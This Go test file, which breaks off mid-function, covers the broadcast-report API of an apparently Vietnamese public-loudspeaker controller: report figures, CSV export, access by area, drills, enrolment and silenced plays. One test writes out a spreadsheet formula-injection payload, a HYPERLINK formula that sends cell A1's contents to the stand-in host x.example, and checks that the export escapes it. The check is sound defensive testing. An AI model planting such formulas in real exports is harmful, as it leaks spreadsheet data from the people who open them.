package http_test

import (
	"bytes"
	"encoding/csv"
	"maps"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"loaxa.vn/controller/loaxa"
	"loaxa.vn/controller/upstream"
	"loaxa.vn/firmware-sim/board"
	"loaxa.vn/protocol"
)

// TestBroadcastReport: the report's figures per node, per commune and in
// total are the sums of the stored deliveries, in JSON and in CSV; an
// officer gets their own commune's; bad queries get a message.
func TestBroadcastReport(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.tree()
	c := e.upload(e.admin, "ban-tin.wav", wav(16000, 1, 16000), "Bản tin", http.StatusCreated)
	announce := func(priority string, area string, at time.Time) string {
		var a loaxa.Announcement
		e.call("POST", "/api/v1/announcements", e.admin, map[string]any{"content_id": c.ID, "targets": map[string]any{"areas": []string{area}},
			"priority": priority, "start": at.Format(time.RFC3339), "force": true}, http.StatusCreated, &a)
		return a.ID
	}
	news, flood, evening := announce("normal", "318", t0.Add(time.Hour)), announce("emergency", "12346", t0.Add(time.Hour)), announce("normal", "318", t0.Add(3*time.Hour))
	silent := announce("normal", "12347", t0.Add(4*time.Hour))
	nextDay := announce("normal", "318", t0.Add(24*time.Hour))

	// Deliveries as the scheduler makes them, then events as the nodes
	// report them.
	ctx := t.Context()
	type play struct {
		ann  string
		at   time.Time
		prio protocol.Priority
	}
	plays := []play{{news, t0.Add(time.Hour), "normal"}, {flood, t0.Add(time.Hour), "emergency"}, {evening, t0.Add(3 * time.Hour), "normal"},
		{silent, t0.Add(4 * time.Hour), "normal"}, {nextDay, t0.Add(24 * time.Hour), "normal"}}
	var ds []*loaxa.Delivery
	for _, p := range plays {
		for _, node := range []string{"n-a", "n-b"} {
			if node == "n-b" && p.ann == flood || node == "n-a" && p.ann == silent {
				continue
			}
			ds = append(ds, &loaxa.Delivery{Announcement: p.ann, Occurrence: loaxa.OccurrenceID(p.ann, p.at), Node: node, Start: p.at,
				Priority: p.prio, PlannedMS: 1000})
		}
	}
	if err := e.stores.deliveries.EnsureDeliveries(ctx, ds); err != nil {
		t.Fatal(err)
	}
	ev := func(typ protocol.EventType, ann string, at time.Time, reason string, played int64) protocol.Event {
		return protocol.Event{Type: typ, At: at, Occurrence: loaxa.OccurrenceID(ann, at), Announcement: ann, Reason: reason, PlayedMS: played}
	}
	h1, h3 := t0.Add(time.Hour), t0.Add(3*time.Hour)
	batches := map[string][]protocol.Event{
		// n-a: the emergency cuts the news off for good; the evening bulletin completes.
		"n-a": {ev("started", news, h1, "", 0), ev("preempted", news, h1, protocol.ReasonPreempted, 400), ev("started", flood, h1, "", 0),
			ev("completed", flood, h1, "", 1000), ev("started", evening, h3, "", 0), ev("completed", evening, h3, "", 1000)},
		// n-b: off in the morning, its amplifier broken in the evening;
		// the 09:00 bulletin never heard of (failed to sound).
		"n-b": {ev("missed", news, h1, protocol.ReasonTooLate, 0), ev("failed", evening, h3, protocol.ReasonAmplifier, 0)},
	}
	for node, events := range batches {
		for i := range events {
			events[i].Seq = uint64(i + 1)
		}
		if _, _, err := e.stores.events.RecordEvents(ctx, node, protocol.EventBatch{Epoch: "e1", Events: events}, h3); err != nil {
			t.Fatal(err)
		}
	}
	e.clock.Set(t0.Add(6 * time.Hour))
	admin := e.token("admin")
	officer := e.addUser("can-bo-a", loaxa.RoleCommune, "12346")

	// What the report must say, from the stored deliveries themselves.
	want := map[string]*loaxa.BroadcastFigures{"n-a": {}, "n-b": {}}
	stored, err := e.stores.deliveries.FindDeliveries(ctx, loaxa.DeliveryFilter{From: t0, To: t0.Add(12 * time.Hour)})
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range stored {
		d.CheckSilence(e.clock.Now(), loaxa.SilenceBound)
		want[d.Node].Add(d)
	}
	if f := *want["n-b"]; f.Scheduled != 3 || f.Missed != 1 || f.Failed != 1 || f.Open != 1 || f.FailedToSound != 1 {
		t.Fatalf("stored deliveries of n-b add up to %+v; the fixture is wrong", f)
	}
	if f := *want["n-a"]; f.Scheduled != 3 || f.Preempted != 1 || f.Completed != 2 || f.Emergency != 1 || f.PlayedMS != 2400 {
		t.Fatalf("stored deliveries of n-a add up to %+v; the fixture is wrong", f)
	}

	const query = "/api/v1/reports/broadcast?area=318&from=2026-03-02T05:00:00%2B07:00&to=2026-03-02T17:00:00%2B07:00"
	var rep loaxa.BroadcastReport
	e.call("GET", query, admin, nil, http.StatusOK, &rep)
	if len(rep.Nodes) != 2 || len(rep.Areas) != 2 {
		t.Fatalf("report %+v", rep)
	}
	var total loaxa.BroadcastFigures
	for i, n := range rep.Nodes {
		if n.BroadcastFigures != *want[n.Node] {
			t.Errorf("node %s: %+v, want %+v", n.Node, n.BroadcastFigures, *want[n.Node])
		}
		if area := rep.Areas[i]; area.Area != n.Area || area.Nodes != 1 || area.BroadcastFigures != n.BroadcastFigures {
			t.Errorf("commune %+v, want the figures of its one node %s", area, n.Node)
		}
		addFigures(&total, n.BroadcastFigures)
	}
	if rep.Total != total || rep.Areas[0].Name != "Xã Tiên Thắng" || rep.Area != "318" {
		t.Errorf("total %+v, want %+v; areas %+v", rep.Total, total, rep.Areas)
	}

	// The same figures as CSV.
	r := e.request("GET", query+"&format=csv", admin, "", nil)
	if r.status != http.StatusOK || r.header.Get("Content-Type") != "text/csv; charset=utf-8" {
		t.Fatalf("csv: %d %s", r.status, r.header.Get("Content-Type"))
	}
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+1+2+2 {
		t.Fatalf("csv has %d rows:\n%s", len(rows), r.body)
	}
	header := rows[0]
	figures := func(row []string) loaxa.BroadcastFigures {
		get := func(col string) int {
			for i, h := range header {
				if h == col {
					n, err := strconv.Atoi(row[i])
					if err != nil {
						t.Fatalf("csv %s %q: %v", col, row[i], err)
					}
					return n
				}
			}
			t.Fatalf("csv has no column %s", col)
			return 0
		}
		return loaxa.BroadcastFigures{Scheduled: get("scheduled"), Completed: get("completed"), Preempted: get("preempted"), Failed: get("failed"),
			Missed: get("missed"), Open: get("open"), FailedToSound: get("failed_to_sound"), Emergency: get("emergency"), Drill: get("drill")}
	}
	counts := func(f loaxa.BroadcastFigures) loaxa.BroadcastFigures {
		f.PlannedMS, f.PlayedMS = 0, 0
		return f
	}
	for _, row := range rows[1:] {
		switch row[0] {
		case "total":
			if figures(row) != counts(rep.Total) {
				t.Errorf("csv total %v, json %+v", row, rep.Total)
			}
		case "area":
			for _, a := range rep.Areas {
				if a.Area == row[1] && (figures(row) != counts(a.BroadcastFigures) || row[3] != a.Name) {
					t.Errorf("csv area %v, json %+v", row, a)
				}
			}
		case "node":
			if figures(row) != counts(*want[row[1]]) {
				t.Errorf("csv node %v, want %+v", row, *want[row[1]])
			}
		}
	}
	if rows[1][0] != "total" || rows[1][13] != "0.10" || rows[1][14] != "0.04" {
		t.Errorf("csv total row %v, want 0.10 minutes planned (6 × 1 s) and 0.04 played (2.4 s)", rows[1])
	}

	// An officer's report is their commune's.
	var mine loaxa.BroadcastReport
	e.call("GET", "/api/v1/reports/broadcast?from=2026-03-02&to=2026-03-03", officer, nil, http.StatusOK, &mine)
	if mine.Area != "12346" || len(mine.Nodes) != 1 || mine.Nodes[0].BroadcastFigures != *want["n-a"] {
		t.Errorf("officer's report %+v, want n-a's figures", mine)
	}
	for _, tc := range []struct {
		name, token, path string
		status            int
		code, msg         string
	}{
		{"another commune", officer, "/api/v1/reports/broadcast?area=12347", 403, loaxa.EForbidden, `Area "12347" is outside your area "12346"`},
		{"unknown format", admin, "/api/v1/reports/broadcast?format=xlsx", 400, loaxa.EInvalid, `format "xlsx": use json (the default) or csv.`},
		{"backwards", admin, "/api/v1/reports/broadcast?from=2026-03-03&to=2026-03-02", 400, loaxa.EInvalid, "is not a range of at most 372 days; give from < to."},
		{"more than a year", admin, "/api/v1/reports/broadcast?from=2025-01-01&to=2026-03-02", 400, loaxa.EInvalid, "is not a range of at most 372 days"},
		{"not a date", admin, "/api/v1/reports/broadcast?from=02/03/2026", 400, loaxa.EInvalid, `from "02/03/2026" is not an RFC 3339 time`},
		{"unknown area", admin, "/api/v1/reports/broadcast?area=99999", 400, loaxa.EInvalid, `area: there is no area "99999"`},
		{"misspelt parameter", admin, "/api/v1/reports/broadcast?areas=318", 400, loaxa.EInvalid, `Unknown query parameter "areas"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			checkError(t, e.request("GET", tc.path, tc.token, "", nil), tc.status, tc.code, tc.msg)
		})
	}
}

// TestReportNamesEachCluster: the per-cluster rows of the broadcast report
// gave only ids (tt-0007), in JSON, in the CSV's name column (left empty)
// and in the console's "Tên cụm loa" column; a commune officer knows the
// clusters as "Cụm loa chợ Đôi". Each node's row carries its name.
func TestReportNamesEachCluster(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.tree()
	const query = "/api/v1/reports/broadcast?area=318&from=2026-03-02&to=2026-03-03"
	var rep struct{ Nodes []struct{ Node, Name string } }
	e.call("GET", query, e.admin, nil, http.StatusOK, &rep)
	want := map[string]string{"n-a": "Cụm loa chợ Đôi", "n-b": "Cụm loa UBND"}
	if len(rep.Nodes) != len(want) {
		t.Fatalf("report nodes %+v, want n-a and n-b", rep.Nodes)
	}
	for _, n := range rep.Nodes {
		if n.Name != want[n.Node] {
			t.Errorf("report row of %s named %q, want %q", n.Node, n.Name, want[n.Node])
		}
	}
	r := e.request("GET", query+"&format=csv", e.admin, "", nil)
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatalf("csv: %v\n%s", err, r.body)
	}
	named := 0
	for _, row := range rows[1:] {
		if row[0] != "node" {
			continue
		}
		if row[3] != want[row[1]] {
			t.Errorf("csv row %v: name %q, want %q", row, row[3], want[row[1]])
		}
		named++
	}
	if named != len(want) {
		t.Errorf("csv has %d node rows, want %d:\n%s", named, len(want), r.body)
	}
}

// TestReportRangeLeftOutIsSaid: an officer asked for the report from
// tomorrow and left to out; the answer read "from 2026-12-03 to  is not a
// range", blank where the report had taken to as now. A refused range
// must say the times it read, in Vietnam's time, and that to was now.
func TestReportRangeLeftOutIsSaid(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.tree()
	e.srv.Upstream = upstreamLink{src: &upstream.Source{Areas: e.stores.areas, Nodes: e.stores.nodes, Deliveries: e.stores.deliveries, Announcements: e.stores.anns, System: "test"}}
	now := e.clock.Now().In(t0.Location()).Format(time.RFC3339)
	for _, route := range []string{"/api/v1/reports/broadcast", "/api/v1/upstream/export"} {
		t.Run(route, func(t *testing.T) {
			checkError(t, e.request("GET", route+"?area=318&from=2026-03-03", e.admin, "", nil), http.StatusBadRequest, loaxa.EInvalid,
				"from 2026-03-03T00:00:00+07:00 to "+now+" (now: to was left out) is not a range of at most 372 days; give from < to.")
			checkError(t, e.request("GET", route+"?area=318&from=2026-03-03&to=2026-03-02", e.admin, "", nil), http.StatusBadRequest, loaxa.EInvalid,
				"from 2026-03-03T00:00:00+07:00 to 2026-03-02T00:00:00+07:00 is not a range of at most 372 days; give from < to.")
		})
	}
}

// addFigures adds f to sum.
func addFigures(sum *loaxa.BroadcastFigures, f loaxa.BroadcastFigures) {
	sum.Scheduled += f.Scheduled
	sum.Completed += f.Completed
	sum.Preempted += f.Preempted
	sum.Failed += f.Failed
	sum.Missed += f.Missed
	sum.Open += f.Open
	sum.FailedToSound += f.FailedToSound
	sum.Emergency += f.Emergency
	sum.Drill += f.Drill
	sum.PlannedMS += f.PlannedMS
	sum.PlayedMS += f.PlayedMS
}

// TestBroadcastReportCountsDrillsApart: an emergency drill is not an
// emergency in the broadcast report (the yearly report a province sends
// up): it is counted as a drill, in JSON and CSV, and its deliveries say
// drill, so that no one reads an exercise as a real alert.
func TestBroadcastReportCountsDrillsApart(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.tree()
	e.srv.Upstream = upstreamLink{src: &upstream.Source{Areas: e.stores.areas, Nodes: e.stores.nodes, Deliveries: e.stores.deliveries, Announcements: e.stores.anns, System: "test"}}
	c := e.upload(e.admin, "bao-dong.wav", wav(16000, 1, 16000), "Báo động", http.StatusCreated)
	ctx := t.Context()
	ids := map[bool]string{}
	for _, drill := range []bool{true, false} {
		em, err := e.emergency.SendEmergency(ctx, loaxa.EmergencyRequest{ContentID: c.ID, Targets: []string{"12346"}, Drill: drill, CreatedBy: "admin"})
		if err != nil {
			t.Fatal(err)
		}
		ids[drill] = em.ID
	}
	for drill, id := range ids {
		ds, err := e.stores.deliveries.FindDeliveries(ctx, loaxa.DeliveryFilter{Announcement: id})
		if err != nil || len(ds) != 1 {
			t.Fatalf("deliveries of %s: %v, %v", id, ds, err)
		}
		if ds[0].Drill != drill {
			t.Errorf("delivery of %s (drill %v) says drill %v", id, drill, ds[0].Drill)
		}
	}
	now := e.clock.Now()
	query := "/api/v1/reports/broadcast?area=12346&from=" + url.QueryEscape(now.Add(-time.Hour).Format(time.RFC3339)) +
		"&to=" + url.QueryEscape(now.Add(time.Hour).Format(time.RFC3339))
	var rep loaxa.BroadcastReport
	e.call("GET", query, e.admin, nil, http.StatusOK, &rep)
	if f := rep.Total; f.Scheduled != 2 || f.Emergency != 1 || f.Drill != 1 {
		t.Errorf("report total %+v, want 2 scheduled: 1 emergency, 1 drill", f)
	}
	r := e.request("GET", query+"&format=csv", e.admin, "", nil)
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("csv: %v\n%s", err, r.body)
	}
	col := map[string]string{}
	for i, h := range rows[0] {
		col[h] = rows[1][i]
	}
	if col["level"] != "total" || col["emergency"] != "1" || col["drill"] != "1" {
		t.Errorf("csv total %v", col)
	}
	// The export to the upstream system says the same, and marks the
	// drill among the bulletins played.
	var x upstream.Export
	e.call("GET", strings.Replace(query, "/reports/broadcast", "/upstream/export", 1), e.admin, nil, http.StatusOK, &x)
	if x.Total.Emergency != 1 || x.Total.Drill != 1 || len(x.Bulletins) != 2 {
		t.Fatalf("upstream export: total %+v, %d bulletins", x.Total, len(x.Bulletins))
	}
	for _, b := range x.Bulletins {
		if want := b.Announcement == ids[true]; b.Drill != want {
			t.Errorf("upstream bulletin %s: drill %v, want %v", b.Announcement, b.Drill, want)
		}
	}
}

// TestReportCSVFormulaCellsAreText: the broadcast report's CSV is opened
// by officers in a spreadsheet. An area name is free text typed by another
// user; one that begins with =, +, - or @ gets a leading apostrophe, so the
// spreadsheet shows it instead of running it as a formula (CSV/formula
// injection, CWE-1236). It was written as it was.
func TestReportCSVFormulaCellsAreText(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	name := `=HYPERLINK("http://x.example/?d="&A1,"Xã Tiên Thắng")`
	for _, a := range []map[string]string{
		{"id": "31", "name": "Thành phố Hải Phòng"},
		{"id": "12346", "name": name, "parent": "31"},
	} {
		e.call("POST", "/api/v1/areas", e.admin, a, http.StatusCreated, nil)
	}
	e.call("POST", "/api/v1/nodes", e.admin, map[string]any{"id": "n-a", "name": "Cụm loa chợ Đôi", "area": "12346", "lat": 20.716, "lon": 106.552},
		http.StatusCreated, nil)
	r := e.request("GET", "/api/v1/reports/broadcast?area=31&format=csv", e.admin, "", nil)
	if r.status != http.StatusOK {
		t.Fatalf("csv: %d %s", r.status, r.body)
	}
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, row := range rows[1:] {
		if row[0] == "area" && row[3] == "'"+name {
			found = true
		}
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("row %v: cell %q starts with %q, which a spreadsheet runs as a formula", row[:2], cell, cell[0])
			}
		}
	}
	if !found {
		t.Errorf("no area row names %q as text: %v", name, rows)
	}
}

// TestReportCSVOpensInExcel: commune and district officers open the
// report's CSV in Excel, which reads a file without a byte order mark in
// the PC's code page: "Xã Lập Lễ" showed as "XÃ£ Láº­p Lá»…". Asked with
// bom=true (as the console's download link asks), the CSV begins with the
// UTF-8 byte order mark; without it, it begins with the header as before,
// so that scripts reading it with encoding/csv still find "level".
func TestReportCSVOpensInExcel(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.call("POST", "/api/v1/areas", e.admin, map[string]string{"id": "11527", "name": "Xã Lập Lễ"}, http.StatusCreated, nil)
	e.call("POST", "/api/v1/nodes", e.admin, map[string]any{"id": "lap-le-01", "name": "Cụm loa chợ", "area": "11527", "lat": 20.8, "lon": 106.6},
		http.StatusCreated, nil)
	const query = "/api/v1/reports/broadcast?area=11527&format=csv"

	r := e.request("GET", query+"&bom=true", e.admin, "", nil)
	if r.status != http.StatusOK {
		t.Fatalf("csv with bom=true: %d %s", r.status, r.body)
	}
	if want := "\xef\xbb\xbflevel,"; !bytes.HasPrefix(r.body, []byte(want)) {
		t.Errorf("csv with bom=true begins %q, want %q: Excel reads it in the PC's code page", r.body[:min(len(r.body), 12)], want)
	}
	if !bytes.Contains(r.body, []byte(",Xã Lập Lễ,")) {
		t.Errorf("csv with bom=true does not name the commune in UTF-8:\n%s", r.body)
	}

	r = e.request("GET", query, e.admin, "", nil)
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if r.status != http.StatusOK || err != nil || len(rows) == 0 || rows[0][0] != "level" {
		t.Errorf("csv without bom: %d, %v, first row %q; want the header as scripts read it", r.status, err, rows)
	}

	for _, bad := range []string{query + "&bom=perhaps", "/api/v1/reports/broadcast?area=11527&bom=true"} {
		r := e.request("GET", bad, e.admin, "", nil)
		if r.status != http.StatusBadRequest || !bytes.Contains(r.body, []byte("bom")) {
			t.Errorf("GET %s: %d %s, want 400 naming bom", bad, r.status, r.body)
		}
	}
}

// clusterAwaitingItsCode links e's upstream export to its stores and
// creates cluster tt-09 in commune 12346 with an enrolment code, returned:
// a pole not put up yet.
func clusterAwaitingItsCode(t *testing.T, e *env) string {
	t.Helper()
	e.srv.Upstream = upstreamLink{src: &upstream.Source{Areas: e.stores.areas, Nodes: e.stores.nodes, Deliveries: e.stores.deliveries, Announcements: e.stores.anns, System: "test"}}
	var batch struct {
		Nodes []struct {
			Enrolment struct{ Code string }
		}
	}
	e.call("POST", "/api/v1/nodes/batch", e.admin, map[string]any{"credentials": "code", "nodes": []map[string]any{
		{"id": "tt-09", "name": "Cụm loa mới", "area": "12346"}}}, http.StatusCreated, &batch)
	return batch.Nodes[0].Enrolment.Code
}

// TestReportCountsAClusterFromItsEnrolment: a cluster enrolled with a
// code was counted from when the code was issued, so a pole put up days
// later read as days of plays that failed to sound. The report and the
// upstream export count a node's plays from when its board redeemed its
// code (the node's enrolled_at): not the plays an older controller
// planned for it while it waited, nor an alert to its area then.
func TestReportCountsAClusterFromItsEnrolment(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.tree()
	code := clusterAwaitingItsCode(t, e)
	ctx := t.Context()
	delivery := func(ann string, at time.Time, prio protocol.Priority) *loaxa.Delivery {
		return &loaxa.Delivery{Announcement: ann, Occurrence: loaxa.OccurrenceID(ann, at), Node: "tt-09", Start: at, Priority: prio, PlannedMS: 1000}
	}
	// What an older controller planned while the code waited, and an alert
	// to the commune then.
	if err := e.stores.deliveries.EnsureDeliveries(ctx, []*loaxa.Delivery{delivery("a000001", t0.Add(time.Hour), protocol.PriorityNormal),
		delivery("a000001", t0.Add(25*time.Hour), protocol.PriorityNormal), delivery("e000001", t0.Add(26*time.Hour), protocol.PriorityEmergency)}); err != nil {
		t.Fatal(err)
	}
	enrolled := t0.Add(48 * time.Hour)
	e.clock.Set(enrolled)
	r := e.request("POST", "/api/v1/enrol", "", "application/json", jsonBody(t, map[string]string{"code": code}))
	if r.status != http.StatusOK {
		t.Fatalf("enrol: %d %s", r.status, r.body)
	}
	if err := e.stores.deliveries.EnsureDeliveries(ctx, []*loaxa.Delivery{delivery("a000001", t0.Add(49*time.Hour), protocol.PriorityNormal)}); err != nil {
		t.Fatal(err)
	}
	e.clock.Set(t0.Add(52 * time.Hour))
	admin := e.token("admin") // signed in again: the first token is two days old
	var n loaxa.Node
	e.call("GET", "/api/v1/nodes/tt-09", admin, nil, http.StatusOK, &n)
	if !n.EnrolledAt.Equal(enrolled) || !n.CreatedAt.Equal(t0) {
		t.Errorf("tt-09: created_at %v, enrolled_at %v; want %v and %v", n.CreatedAt, n.EnrolledAt, t0, enrolled)
	}

	query := "?area=12346&from=" + url.QueryEscape(t0.Format(time.RFC3339)) + "&to=" + url.QueryEscape(t0.Add(72*time.Hour).Format(time.RFC3339))
	var rep loaxa.BroadcastReport
	e.call("GET", "/api/v1/reports/broadcast"+query, admin, nil, http.StatusOK, &rep)
	for _, nf := range rep.Nodes {
		if nf.Node == "tt-09" && (nf.Scheduled != 1 || nf.FailedToSound != 1 || nf.Emergency != 0) {
			t.Errorf("tt-09 in the report: %+v; want the one play after it was enrolled, not the three before", nf.BroadcastFigures)
		}
	}
	var x upstream.Export
	e.call("GET", "/api/v1/upstream/export"+query, admin, nil, http.StatusOK, &x)
	if x.Total.Scheduled != 1 || x.Total.Emergency != 0 {
		t.Errorf("upstream export total %+v; want tt-09's one play after it was enrolled", x.Total)
	}
}

// TestReportCountsAnAlertAClusterPutUpDuringItPlayed: a board put up
// while an emergency was in force redeems its code and is sent the alert
// (docs/emergency.md); its delivery starts at its area's start, before
// the board was enrolled, and the report and the upstream export left
// the warning it sounded out of its figures. A play from before a node's
// enrolment is its to answer for once the node reported it: a node
// reports only what it had, and it has nothing before its code.
func TestReportCountsAnAlertAClusterPutUpDuringItPlayed(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.tree()
	code := clusterAwaitingItsCode(t, e)
	ctx := t.Context()
	start := t0.Add(time.Hour)
	occ := loaxa.OccurrenceID("e000001", start)
	e.clock.Set(start.Add(30 * time.Second))
	r := e.request("POST", "/api/v1/enrol", "", "application/json", jsonBody(t, map[string]string{"code": code}))
	if r.status != http.StatusOK {
		t.Fatalf("enrol: %d %s", r.status, r.body)
	}
	// Sent the alert as it came online: its delivery keeps the area's start.
	if err := e.stores.deliveries.EnsureDeliveries(ctx, []*loaxa.Delivery{{Announcement: "e000001", Occurrence: occ, Node: "tt-09", Start: start,
		State: loaxa.DeliveryPending, Priority: protocol.PriorityEmergency, PlannedMS: 1000, UpdatedAt: e.clock.Now()}}); err != nil {
		t.Fatal(err)
	}
	at := start.Add(40 * time.Second)
	var events []protocol.Event
	for i, typ := range []protocol.EventType{protocol.EventReceived, protocol.EventStarted, protocol.EventCompleted} {
		events = append(events, protocol.Event{Seq: uint64(i + 1), Type: typ, Occurrence: occ, Announcement: "e000001", At: at, LateMS: 40_000, PlayedMS: 1000})
	}
	if _, _, err := e.stores.events.RecordEvents(ctx, "tt-09", protocol.EventBatch{Epoch: "e1", Events: events}, at); err != nil {
		t.Fatal(err)
	}
	e.clock.Set(start.Add(time.Hour))
	admin := e.token("admin")
	query := "?area=12346&from=" + url.QueryEscape(t0.Format(time.RFC3339)) + "&to=" + url.QueryEscape(t0.Add(24*time.Hour).Format(time.RFC3339))
	var rep loaxa.BroadcastReport
	e.call("GET", "/api/v1/reports/broadcast"+query, admin, nil, http.StatusOK, &rep)
	found := false
	for _, nf := range rep.Nodes {
		if nf.Node == "tt-09" {
			found = true
			if nf.Scheduled != 1 || nf.Completed != 1 || nf.Emergency != 1 {
				t.Errorf("tt-09 in the report: %+v; want the alert it sounded, completed", nf.BroadcastFigures)
			}
		}
	}
	if !found {
		t.Errorf("tt-09 is not in the report")
	}
	var x upstream.Export
	e.call("GET", "/api/v1/upstream/export"+query, admin, nil, http.StatusOK, &x)
	if x.Total.Emergency != 1 || x.Total.Completed != 1 {
		t.Errorf("upstream export total %+v; want tt-09's alert, completed", x.Total)
	}
}

// TestReportCountsPlaysIntoACutSpeakerLineApart: a cluster whose speaker
// line was cut while it played the morning bulletin played on into the
// cut line and reported it completed; the broadcast report counted it
// played like any other, and an officer proved to the district that
// residents heard a bulletin no one near that pole heard. The plays made
// while a fault that keeps a pole silent was open (from the alarm
// history: the fault here mended since) are counted in silenced, per
// cluster, per commune and in total, in JSON and in the CSV's last
// column; a play after the fault was mended, and one before a fault
// came, are not.
func TestReportCountsPlaysIntoACutSpeakerLineApart(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.tree()
	sound, cut := soundAndCutBoards(t, e)
	c := e.upload(e.admin, "ban-tin.wav", wav(16000, 1, 16000), "Bản tin", http.StatusCreated)
	h1, h3 := t0.Add(time.Hour), t0.Add(3*time.Hour)
	var morning, evening loaxa.Announcement
	for at, a := range map[time.Time]*loaxa.Announcement{h1: &morning, h3: &evening} {
		e.call("POST", "/api/v1/announcements", e.admin, map[string]any{"content_id": c.ID, "targets": map[string]any{"areas": []string{"318"}},
			"priority": "normal", "start": at.Format(time.RFC3339), "force": true}, http.StatusCreated, a)
	}
	ctx := t.Context()
	var ds []*loaxa.Delivery
	for _, p := range []struct {
		ann string
		at  time.Time
	}{{morning.ID, h1}, {evening.ID, h3}} {
		for _, node := range []string{"n-a", "n-b"} {
			ds = append(ds, &loaxa.Delivery{Announcement: p.ann, Occurrence: loaxa.OccurrenceID(p.ann, p.at), Node: node, Start: p.at,
				Priority: "normal", PlannedMS: 60000})
		}
	}
	if err := e.stores.deliveries.EnsureDeliveries(ctx, ds); err != nil {
		t.Fatal(err)
	}
	play := func(node, ann string, at time.Time, seq uint64) {
		t.Helper()
		id := loaxa.OccurrenceID(ann, at)
		events := []protocol.Event{{Seq: seq, Type: "started", At: at, Occurrence: id, Announcement: ann},
			{Seq: seq + 1, Type: "completed", At: at.Add(time.Minute), Occurrence: id, Announcement: ann, PlayedMS: 60000}}
		if _, _, err := e.stores.events.RecordEvents(ctx, node, protocol.EventBatch{Epoch: "e1", Events: events}, at.Add(time.Minute)); err != nil {
			t.Fatal(err)
		}
	}
	e.clock.Set(t0)
	e.observe("n-a", sound.Snapshot())
	e.observe("n-b", sound.Snapshot())
	e.clock.Set(h1.Add(20 * time.Second))
	e.observe("n-a", cut.Snapshot()) // n-a's line cut while the morning bulletin plays
	play("n-a", morning.ID, h1, 1)
	play("n-b", morning.ID, h1, 1)
	e.clock.Set(h1.Add(time.Hour))
	e.observe("n-a", sound.Snapshot()) // mended before the evening
	e.clock.Set(h3)
	play("n-a", evening.ID, h3, 3)
	play("n-b", evening.ID, h3, 3)
	e.clock.Set(h3.Add(time.Hour))
	e.observe("n-b", cut.Snapshot()) // n-b's line cut after it played
	e.clock.Set(t0.Add(6 * time.Hour))
	if alarms, err := e.stores.alarms.FindAlarms(ctx, loaxa.AlarmFilter{Kind: loaxa.AlarmSpeakerOpen}); err != nil || len(alarms) != 2 {
		t.Fatalf("speaker-line-open alarms %v, %v; want n-a's (ended) and n-b's: the fixture is wrong", alarms, err)
	}
	admin := e.token("admin")

	const query = "/api/v1/reports/broadcast?area=318&from=2026-03-02T05:00:00%2B07:00&to=2026-03-02T17:00:00%2B07:00"
	var rep loaxa.BroadcastReport
	e.call("GET", query, admin, nil, http.StatusOK, &rep)
	silenced := map[string]int{}
	for _, n := range rep.Nodes {
		silenced[n.Node] = n.Silenced
		if n.Completed != 2 {
			t.Errorf("%s: %d completed, want 2 (its state stays what it reported)", n.Node, n.Completed)
		}
	}
	for _, a := range rep.Areas {
		silenced[a.Area] = a.Silenced
	}
	want := map[string]int{"n-a": 1, "n-b": 0, "12346": 1, "12347": 0}
	if !maps.Equal(silenced, want) || rep.Total.Silenced != 1 || rep.Total.Completed != 4 {
		t.Errorf("silenced %v, total %+v; want %v, 1 of 4 completed", silenced, rep.Total, want)
	}

	r := e.request("GET", query+"&format=csv", admin, "", nil)
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil || r.status != http.StatusOK {
		t.Fatalf("csv: %d %v\n%s", r.status, err, r.body)
	}
	got := map[string]string{}
	for _, row := range rows {
		got[row[0]+" "+row[1]] = row[len(row)-1]
	}
	if w := map[string]string{"level id": "silenced", "total 318": "1", "area 12346": "1", "area 12347": "0", "node n-a": "1", "node n-b": "0"}; !maps.Equal(got, w) {
		t.Errorf("csv's last column %v, want %v", got, w)
	}
}

// TestAdministratorsReportTotalNamesTheProvince: an administrator (a user
// without an area) asking for the report without an area got a total
// with an empty area in JSON and an empty id and area on the CSV's total
// row, where a commune officer's reads their commune's id: a reader could
// not tell what the total was of. The whole tree's total is its root's,
// the province's.
func TestAdministratorsReportTotalNamesTheProvince(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.tree()
	officer := e.addUser("can-bo-tien-thang", loaxa.RoleCommune, "12346")
	for _, c := range []struct {
		who, token, want string
	}{{"the administrator", e.admin, "31"}, {"a commune officer", officer, "12346"}} {
		const query = "/api/v1/reports/broadcast?from=2026-03-02&to=2026-03-03"
		var rep struct {
			Area  string `json:"area"`
			Total struct {
				Scheduled *int `json:"scheduled"`
			} `json:"total"`
		}
		e.call("GET", query, c.token, nil, http.StatusOK, &rep)
		if rep.Area != c.want || rep.Total.Scheduled == nil {
			t.Errorf("%s's report: area %q, total %+v; want area %q and a total", c.who, rep.Area, rep.Total, c.want)
		}
		r := e.request("GET", query+"&format=csv", c.token, "", nil)
		rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
		if err != nil || len(rows) < 2 {
			t.Fatalf("%s's csv: %v\n%s", c.who, err, r.body)
		}
		if total := rows[1]; total[0] != "total" || total[1] != c.want || total[2] != c.want {
			t.Errorf("%s's csv total row %q, want id and area %q", c.who, total, c.want)
		}
	}
}

// soundAndCutBoards returns two simulated boxes on e's clock: one sound,
// one whose speaker line is cut.
func soundAndCutBoards(t *testing.T, e *env) (sound, cut *board.Board) {
	t.Helper()
